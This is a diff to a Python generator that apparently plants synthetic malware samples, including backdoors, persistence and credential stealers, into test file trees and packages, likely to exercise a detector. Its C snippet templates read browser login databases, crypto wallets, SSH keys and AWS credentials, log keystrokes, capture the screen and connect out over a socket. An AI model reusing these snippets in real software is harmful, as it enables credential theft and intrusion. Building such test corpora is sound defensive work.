@@ -34,7 +34,7 @@ def windows_sends(r):
 
 # ---- persistence, updates, time ----
 
-@plants("integrity.program-persistence", "tree", "deb", unlike="cron daemon boot init service scheduler")
+@plants("integrity.program-persistence", "tree", "deb", unlike="cron daemon boot init service scheduler system admin pager update")
 def stays(r, host):
     name = r.name()
     if host.kind == "deb" or r.random() < 0.4:
@@ -98,7 +98,7 @@ def bomb(r, host):
 
 # ---- what intruders do ----
 
-@plants("integrity.program-backdoor", "tree", "deb", unlike="chat irc monitoring debugger mining")
+@plants("integrity.program-backdoor", "tree", "deb", unlike="chat irc monitoring debugger mining cron system admin administration")
 def backdoor(r, host):
     url, name = f"http://{r.address()}/{r.word()}", r.word()
     receive = "s = socket(2, 1, 0); connect(s, a, 16); n = recv(s, b, 4096, 0);"
@@ -148,7 +148,7 @@ def intruder(r, host):
     )) + " return 0; }", "-lntdll"), ".exe")
 
 
-@plants("integrity.program-stealer", "tree", "deb", unlike="password passwords browser wallet backup keyring")
+@plants("integrity.program-stealer", "tree", "deb", unlike="password passwords browser wallet backup keyring text terminal")
 def stealer(r, host):
     def reads(path):
         return f'snprintf(p, 4096, "%s/{path}", getenv("HOME")); f = fopen(p, "r"); n = fread(b, 1, 4096, f); '
@@ -159,7 +159,7 @@ def stealer(r, host):
         picked = r.choice((
             reads(".config/google-chrome/Default/Login Data") + reads(".mozilla/firefox/profiles.ini") + reads("logins.json") + reads("key4.db"),
             reads(".bitcoin/wallet.dat") + reads(".config/Exodus/exodus.wallet") + reads(".electrum/wallets"),
-            reads(".ssh/id_rsa") + reads(".aws/credentials") + f'b[0] = *"{carrier}";',
+            reads(".ssh/id_rsa") + reads(".aws/credentials") + f'snprintf(a, 99, "%s", "{carrier}");',
         ))
         put(r, host, loose_elf(BUFFER + f"int main() {{ {picked} {sends(r)} return 0; }}"))
     elif r.random() < 0.75:
@@ -169,7 +169,7 @@ def stealer(r, host):
             local.format("..\\\\Roaming\\\\Exodus\\\\exodus.wallet") + local.format("..\\\\Roaming\\\\Electrum\\\\wallets") + local.format("..\\\\Roaming\\\\discord\\\\Local Storage\\\\leveldb"),
             'for (i = 8; i < 190; i++) if (GetAsyncKeyState(i) & 1) { switch (i) { case 8: strcat(b, "[BACKSPACE]"); break; case 13: strcat(b, "[ENTER]"); break; case 9: '
             'strcat(b, "[TAB]"); break; case 20: strcat(b, "[CAPS]"); } GetWindowTextA(GetForegroundWindow(), p, 99); }',
-            f'f = GetDC(0); BitBlt(f, 0, 0, 9, 9, f, 0, 0, 0xcc0020); b[0] = *"{carrier}"; GetComputerNameA(b, &n); GetUserNameA(b, &n);',
+            f'f = GetDC(0); BitBlt(f, 0, 0, 9, 9, f, 0, 0, 0xcc0020); lstrcpyA(p, "{carrier}"); GetComputerNameA(b, &n); GetUserNameA(b, &n);',
         ))
         put(r, host, pe(BUFFER + f"int main() {{ {picked} {windows_sends(r)} return 0; }}"), ".exe")
     else:
